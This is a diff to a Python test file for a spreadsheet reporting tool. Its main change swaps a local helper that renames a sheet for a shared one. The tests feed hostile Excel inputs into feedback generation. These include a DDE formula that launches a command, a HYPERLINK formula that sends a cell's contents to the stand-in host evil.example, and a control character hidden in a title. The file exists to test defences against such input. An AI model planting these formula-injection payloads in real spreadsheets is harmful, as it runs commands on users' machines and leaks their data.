@@ -24,8 +24,8 @@ from nsm_excel.plan_loader import load_plan
 from nsm_excel.reports import build_reports
 from nsm_excel.workspace import Workspace
 from tests.conftest import Rows, make_workspace, small_plan
-from tests.corpus_parts import as_text, parts, puts
-from tests.returns import drop, edit, filled, found, repack, run, template
+from tests.corpus_parts import added_sheet, as_text, puts
+from tests.returns import drop, edit, filled, found, run, template
 
 DDE = "=cmd|' /C calc'!A0"
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C6,"Strategjia")'
@@ -148,7 +148,7 @@ def test_feedback_on_hostile_returns_holds_no_formula_or_foreign_link(
     cases = {
         "hyperlink-cover.xlsx": puts(mb, ("Cover", "strategy", "value", HYPERLINK)),
         "formula-answer.xlsx": puts(mb, ("Measures", "A.1.1", "spent_donor", "=1000*2")),
-        "dde-sheet.xlsx": _sheet_named(mb, "=cmd|&apos;-C calc&apos;!A0"),
+        "dde-sheet.xlsx": added_sheet(mb, "=cmd|'-C calc'!A0"),
         "control-title.xlsx": puts(mb, ("Measures", "A.1.1", "title", "Profili_x0007_")),
         "linked-cell.xlsx": edit(mb, _link_and_formula_text),
     }
@@ -169,12 +169,6 @@ def _copy(space: Workspace, tmp_path: Path) -> Workspace:
 
     shutil.copytree(space.root, tmp_path / "ws")
     return Workspace.open(tmp_path / "ws")
-
-
-def _sheet_named(data: bytes, name: str) -> bytes:
-    added = edit(data, lambda book: book.create_sheet("Shenime"))
-    xml = parts(added)["xl/workbook.xml"].replace(b'name="Shenime"', f'name="{name}"'.encode())
-    return repack(added, {"xl/workbook.xml": xml})
 
 
 def _link_and_formula_text(book: Workbook) -> None:
